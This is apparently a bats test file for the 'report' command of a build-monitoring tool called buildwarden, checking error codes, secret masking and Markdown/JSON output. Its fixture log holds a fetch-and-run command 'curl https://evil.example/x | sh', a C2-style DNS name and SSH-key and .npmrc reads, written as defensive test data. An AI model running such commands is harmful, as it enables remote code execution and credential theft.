#!/usr/bin/env bats
# `buildwarden report EVENTS.jsonl`: help, errors (status 64 for usage, 65
# for a bad log, one "buildwarden: " line naming FILE:LINE), and a saved log rendered to the
# text tree, Markdown and a JSON summary (checked with jq-free python3).
# Needs no root. Run: bats --tap tests/cli/report.bats

bats_require_minimum_version 1.5.0

BW=${BUILDWARDEN:-$BATS_TEST_DIRNAME/../../build/buildwarden}
T="timeout -k 5 30"

setup() {
	[ -x "$BW" ] || skip "buildwarden not built ($BW)"
	DIR=$(mktemp -d)
}

teardown() {
	rm -rf "$DIR"
}

show() {
	echo "status: $status"
	echo "stdout: $output"
	echo "stderr: ${stderr-}"
}

# $1: the status; $2: what the one "buildwarden: " line says.
expect_error() {
	if [ "$status" -ne "$1" ] || [ "${#stderr_lines[@]}" -ne 1 ] ||
		[[ "${stderr_lines[0]}" != "buildwarden: "* ]] ||
		[[ "${stderr_lines[0]}" != *"$2"* ]]; then
		echo "expected status $1 and one stderr line 'buildwarden: …$2…'"
		show
		return 1
	fi
}

# make -> sh -c "curl … | sh" -> curl, flagged and killed; a secret in argv.
write_log() {
	cat >"$DIR/events.jsonl" <<'LOG'
{"seq":1,"type":"exec","job_id":1,"pid":100,"tid":100,"start_ns":1000,"ppid":99,"parent_start_ns":1,"comm":"make","filename":"/usr/bin/make","exe":"/usr/bin/make","cwd":"/src","argc":2,"argv":["make","-j2"],"argv_truncated":false}
{"seq":2,"type":"fork","job_id":1,"pid":101,"tid":101,"start_ns":1010,"parent_pid":100,"parent_tid":100,"parent_start_ns":1000}
{"seq":3,"type":"exec","job_id":1,"pid":101,"tid":101,"start_ns":1010,"comm":"sh","filename":"/bin/sh","exe":"/usr/bin/dash","argc":3,"argv":["sh","-c","curl https://evil.example/x | sh"]}
{"seq":4,"type":"fork","job_id":1,"pid":102,"tid":102,"start_ns":1020,"parent_pid":101,"parent_tid":101,"parent_start_ns":1010}
{"seq":5,"type":"exec","job_id":1,"pid":102,"tid":102,"start_ns":1020,"comm":"curl","filename":"/usr/bin/curl","exe":"/usr/bin/curl","argc":3,"argv":["curl","--password","hunter2","https://evil.example/x"]}
{"seq":6,"type":"verdict","job_id":1,"rule":"curl-pipe-shell","severity":"high","mode":"enforce","rule_action":"kill-process","action":"kill-process","blocked":false,"kernel_missed":false,"pid":102,"start_ns":1020,"argv":["curl","--password","hunter2","https://evil.example/x"],"ancestry":[]}
{"seq":7,"type":"exit","job_id":1,"pid":102,"tid":102,"start_ns":1020,"exit_code":null,"signal":9,"core_dumped":false}
{"seq":8,"type":"exit","job_id":1,"pid":101,"tid":101,"start_ns":1010,"exit_code":137,"signal":null,"core_dumped":false}
{"seq":9,"type":"exit","job_id":1,"pid":100,"tid":100,"start_ns":1000,"exit_code":2,"signal":null,"core_dumped":false}
{"seq":10,"type":"summary","job_id":1,"command":["make","-j2"],"exit_status":2,"build_exit_code":2,"build_signal":null,"lost":0,"policy":"ci.yml","mode":"enforce","job_killed":false}
LOG
}

@test "report --help lists its options and exits 0" {
	run --separate-stderr $T "$BW" report --help
	[ "$status" -eq 0 ] || { show; false; }
	for opt in --markdown --append --json --no-tree --no-color --no-redact --help; do
		[[ "$output" == *"$opt"* ]] || { echo "help lacks $opt"; show; false; }
	done
	[[ "$output" == "Usage: buildwarden report"* ]]
}

@test "report without a log, or with two, is a usage error" {
	run --separate-stderr $T "$BW" report
	expect_error 64 "expected one event log"
	run --separate-stderr $T "$BW" report a.jsonl b.jsonl
	expect_error 64 "expected one event log"
	run --separate-stderr $T "$BW" report --bogus x.jsonl
	expect_error 64 "unknown option '--bogus'"
	run --separate-stderr $T "$BW" report x.jsonl --json
	expect_error 64 "needs a value"
}

@test "a missing log is status 65 naming the file" {
	run --separate-stderr $T "$BW" report "$DIR/nope.jsonl"
	expect_error 65 "$DIR/nope.jsonl: No such file or directory"
}

@test "a malformed line is status 65 with FILE:LINE" {
	write_log
	sed -i '4s/.*/{"seq":4,"type":"fork",/' "$DIR/events.jsonl"
	run --separate-stderr $T "$BW" report --markdown "$DIR/r.md" "$DIR/events.jsonl"
	expect_error 65 "$DIR/events.jsonl:4: malformed record: the record is cut short"
	[ ! -s "$DIR/r.md" ]
	printf 'garbage\n' >"$DIR/bad.jsonl"
	run --separate-stderr $T "$BW" report "$DIR/bad.jsonl"
	expect_error 65 "$DIR/bad.jsonl:1: malformed record: not valid JSON"
}

@test "a saved log renders the tree, Markdown and JSON, secrets masked" {
	write_log
	run --separate-stderr $T "$BW" report --markdown "$DIR/r.md" --json "$DIR/r.json" \
		"$DIR/events.jsonl"
	[ "$status" -eq 0 ] || { show; false; }
	[[ "$output" == *"100 make -j2  [exit 2]"* ]] || { show; false; }
	[[ "$output" == *"! 102 curl --password *** https://evil.example/x"*"<- rule 'curl-pipe-shell'"* ]] ||
		{ show; false; }
	[[ "$output" != *$'\e['* ]] || { echo "colour when stdout is not a terminal"; show; false; }
	[[ "$output$(cat "$DIR/r.md" "$DIR/r.json")" != *hunter2* ]] || { echo "secret leaked"; false; }

	run grep -c '^## buildwarden: `make -j2` — failed (exit 2)$' "$DIR/r.md"
	[ "$output" = 1 ] || { cat "$DIR/r.md"; false; }
	grep -q '^| `curl-pipe-shell` | high | kill-process | no | 102 | `curl --password \*\*\* https://evil.example/x` |$' "$DIR/r.md" ||
		{ cat "$DIR/r.md"; false; }
	grep -q '^```mermaid$' "$DIR/r.md"
	grep -q '^  n1 --> n2$' "$DIR/r.md"
	grep -q '^  class n2 flagged$' "$DIR/r.md"
	grep -q '^None recorded\.$' "$DIR/r.md"

	python3 - "$DIR/r.json" <<'PY'
import json, sys
j = json.load(open(sys.argv[1]))
assert j["status"] == "failed", j
assert j["exit_status"] == 2, j
assert j["counts"]["processes"] == 3 and j["counts"]["execs"] == 3, j
assert j["counts"]["verdicts"] == 1 and j["counts"]["killed"] == 1, j
assert j["lost"] == 0 and j["complete"] is True, j
assert j["rules"] == [{"rule": "curl-pipe-shell", "severity": "high",
                       "rule_action": "kill-process", "hits": 1, "blocked": 0,
                       "killed": 1}], j
assert j["verdicts"][0]["command"] == "curl --password *** https://evil.example/x", j
PY
}

@test "--append adds a second report; --no-tree prints nothing" {
	write_log
	echo "# earlier step" >"$DIR/summary.md"
	run --separate-stderr $T "$BW" report --no-tree --append --markdown "$DIR/summary.md" \
		"$DIR/events.jsonl"
	[ "$status" -eq 0 ] || { show; false; }
	[ -z "$output" ] || { show; false; }
	[ "$(head -n1 "$DIR/summary.md")" = "# earlier step" ]
	run grep -c '^## buildwarden: ' "$DIR/summary.md"
	[ "$output" = 1 ]
}

@test "--no-redact shows the secret; markdown and json can go to stdout" {
	write_log
	run --separate-stderr $T "$BW" report --no-redact --no-tree --json - "$DIR/events.jsonl"
	[ "$status" -eq 0 ] || { show; false; }
	[[ "$output" == *'"command":"curl --password hunter2 https://evil.example/x"'* ]] ||
		{ show; false; }
	run --separate-stderr $T "$BW" report --no-tree --markdown - "$DIR/events.jsonl"
	[[ "$output" == "## buildwarden: "* ]] || { show; false; }
}

FIX="$BATS_TEST_DIRNAME/../fixtures/reports"

@test "the review sections: DNS names, destinations, credential reads, files written, privilege" {
	run --separate-stderr $T "$BW" report --markdown "$DIR/r.md" --json "$DIR/r.json" \
		"$FIX/review.jsonl"
	[ "$status" -eq 0 ] || { show; false; }
	[[ "$output" == *"buildwarden: DNS name queried: mzxw6ytboi.c2.example (1 query, 1 to a resolver the host did not configure; by curl 103)  <- rule 'dns-unconfigured-resolver'"* ]] ||
		{ show; false; }
	[[ "$output" == *"buildwarden: connected to 104.16.1.34:443 (registry.npmjs.org, 1 connection; by node 101)"* ]] ||
		{ show; false; }
	for section in "DNS names queried" "Credential reads" "Files written in the checkout" \
		"Privilege events" "Network destinations"; do
		grep -q "^### $section\$" "$DIR/r.md" || { echo "no $section"; cat "$DIR/r.md"; false; }
	done
	grep -q '^| `/home/runner/.ssh/id_ed25519` | 1 | 0 | `curl 103` ! `credential-file-access` |$' "$DIR/r.md" ||
		{ cat "$DIR/r.md"; false; }
	grep -q '^| `module` |  | 1 | `insmod 104` ! `kernel-module-load` |$' "$DIR/r.md" ||
		{ cat "$DIR/r.md"; false; }
	python3 - "$DIR/r.json" <<'PY'
import json, sys
j = json.load(open(sys.argv[1]))
procs = lambda row: [(p["comm"], p["pid"]) for p in row["processes"]]
names = j["dns_names"]
assert [n["name"] for n in names] == ["mzxw6ytboi.c2.example", "registry.npmjs.org"], names
assert names[0]["resolver"] == "other" and names[0]["rule"] == "dns-unconfigured-resolver", names
assert procs(names[1]) == [("node", 101)], names
net = j["network"]
assert (net[0]["daddr"], net[0]["dport"]) == ("203.0.113.7", 8080), net
assert procs(net[0]) == [("curl", 103)], net
assert [c["path"] for c in j["credential_reads"]] == ["/home/runner/.ssh/id_ed25519",
                                                      "/home/runner/.npmrc"], j["credential_reads"]
assert j["written_base"] == "/src/app", j
assert [w["path"] for w in j["written"]] == ["/src/app/dist/app.js", "/src/app/dist/app.js.map"], j["written"]
assert j["written_outside"] == 1, j
assert [(p["op"], p["detail"]) for p in j["privilege"]] == [("module", ""), ("setuid", "ids 0 0 0")], j["privilege"]
assert procs(j["privilege"][1]) == [("sudo", 104)], j["privilege"]
PY
}

@test "PATH-lookup misses are not failed execs; a genuine failure still is" {
	run --separate-stderr $T "$BW" report --no-tree --json "$DIR/r.json" "$FIX/review.jsonl"
	[ "$status" -eq 0 ] || { show; false; }
	python3 - "$DIR/r.json" <<'PY'
import json, sys
c = json.load(open(sys.argv[1]))["counts"]
# env tried three PATH entries for node before /usr/local/bin/node: lookups;
# sh's ENOEXEC of tools/gen is a failure.
assert c["exec_failed"] == 1 and c["exec_path_misses"] == 3, c
PY
	run --separate-stderr $T "$BW" report "$FIX/review.jsonl"
	[[ "$output" == *" 1 failed execs,"* ]] || { show; false; }
}

@test "the Action's start/stop report says what is known, never passed" {
	run --separate-stderr $T "$BW" report --markdown "$DIR/r.md" --json "$DIR/r.json" \
		"$FIX/agent_stopped.jsonl"
	[ "$status" -eq 0 ] || { show; false; }
	run grep -c '^## buildwarden: `job run-42-1-build` — agent stopped before the job ended (exit status unknown): 1 verdict; the log starts after the job began$' "$DIR/r.md"
	[ "$output" = 1 ] || { cat "$DIR/r.md"; false; }
	run grep -c passed "$DIR/r.md"
	[ "$output" = 0 ] || { cat "$DIR/r.md"; false; }
	# what the Action's stop step reads for its status output
	status_out=$(python3 -c 'import json,sys; print(json.load(open(sys.argv[1])).get("status","unknown"))' "$DIR/r.json")
	[ "$status_out" = "agent stopped before the job ended" ] || { echo "$status_out"; false; }
	python3 - "$DIR/r.json" <<'PY'
import json, sys
j = json.load(open(sys.argv[1]))
assert j["exit_known"] is False and j["log_cut_start"] is True, j
assert j["headline"].endswith(": 1 verdict; the log starts after the job began"), j
PY
}

@test "a cut log takes its command from the root exec and says it was cut" {
	run --separate-stderr $T "$BW" report --markdown "$DIR/r.md" --json "$DIR/r.json" "$FIX/cut.jsonl"
	[ "$status" -eq 0 ] || { show; false; }
	[[ "$output" == *"buildwarden: WARNING: the log is cut: it ends before the job did"* ]] || { show; false; }
	grep -q '^## buildwarden: `make -k all` — incomplete (the log has no summary record): no verdicts$' "$DIR/r.md" ||
		{ cat "$DIR/r.md"; false; }
	grep -q '^> \*\*Warning:\*\* the log is cut: it ends before the job did\.$' "$DIR/r.md"
	python3 - "$DIR/r.json" <<'PY'
import json, sys
j = json.load(open(sys.argv[1]))
assert j["command"] == ["make", "-k", "all"] and j["status"] == "incomplete", j
assert j["log_cut_end"] is True and j["log_cut_start"] is False, j
PY
	# without its first records the root exec is unknown: no command is made up
	tail -n +2 "$FIX/cut.jsonl" >"$DIR/cut2.jsonl"
	run --separate-stderr $T "$BW" report --no-tree --markdown - "$DIR/cut2.jsonl"
	[[ "$output" == '## buildwarden: `(unknown command)` — incomplete (the log has no summary record and starts after the job began): no verdicts'* ]] ||
		{ show; false; }
}
